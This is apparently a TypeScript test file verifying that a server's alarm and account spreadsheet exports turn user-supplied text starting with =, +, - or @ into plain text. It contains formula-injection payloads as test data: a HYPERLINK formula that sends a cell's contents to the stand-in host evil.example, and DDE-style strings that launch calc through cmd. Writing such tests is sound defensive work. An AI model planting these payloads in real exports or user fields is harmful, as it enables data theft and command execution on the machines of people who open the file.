// Every server export neutralises text that a spreadsheet would take for a formula (packages/domain
// spreadsheet.ts): the alarm export and the account export, with names stored by users.
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { addDevice, adminClient, newTerminalId, userClient } from '../../gateway/test-support.ts';
import { type ApiClient, createTestServer, type TestServer } from '../../testing/harness.ts';

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")';

async function cells(res: { rawPayload: Buffer; statusCode: number }): Promise<string[]> {
  expect(res.statusCode).toBe(200);
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
  const out: string[] = [];
  book.worksheets[0].eachRow((row) => {
    row.eachCell((cell) => {
      expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
      out.push(String(cell.value));
    });
  });
  return out;
}

describe('exports and formula injection', () => {
  let server: TestServer;
  let admin: ApiClient;

  beforeAll(async () => {
    server = await createTestServer();
    admin = await adminClient(server);
  });
  afterAll(async () => {
    await server.close();
  });

  it('alarm export: a device name and an address starting with = + - @ come out as text', async () => {
    const imei = newTerminalId('gt06');
    const id = await addDevice(server, imei, 'gt06', { userId: '1' });
    await server.ctx.db.updateTable('devices').set({ car_number: FORMULA }).where('id', '=', id).execute();
    await server.ctx.db
      .insertInto('alarms')
      .values({ device_id: id, type: 1, time: new Date(), source: 'device', address: '@SUM(1+1)*cmd|/c calc' })
      .execute();
    const res = await server.app.inject({
      method: 'POST',
      url: '/api/deviceAlarms/export',
      headers: { cookie: admin.cookie, lang: 'en' },
      payload: { terminalID: imei },
    });
    const values = await cells(res);
    expect(values).toContain(`'${FORMULA}`);
    expect(values).toContain("'@SUM(1+1)*cmd|/c calc");
    expect(values).not.toContain(FORMULA);
  });

  it('account export: a nickname and a telephone starting with = or + come out as text', async () => {
    await userClient(server, 'formula-user', 4);
    await server.ctx.db
      .updateTable('users')
      .set({ nickname: FORMULA, telephone: '+1+cmd|/c calc' })
      .where('username', '=', 'formula-user')
      .execute();
    const res = await server.app.inject({
      method: 'POST',
      url: '/api/agent/export',
      headers: { cookie: admin.cookie, lang: 'en' },
      payload: { id: '1', agentsOnly: false },
    });
    const values = await cells(res);
    expect(values).toContain(`'${FORMULA}`);
    expect(values).toContain("'+1+cmd|/c calc");
    expect(values).not.toContain(FORMULA);
  });
});
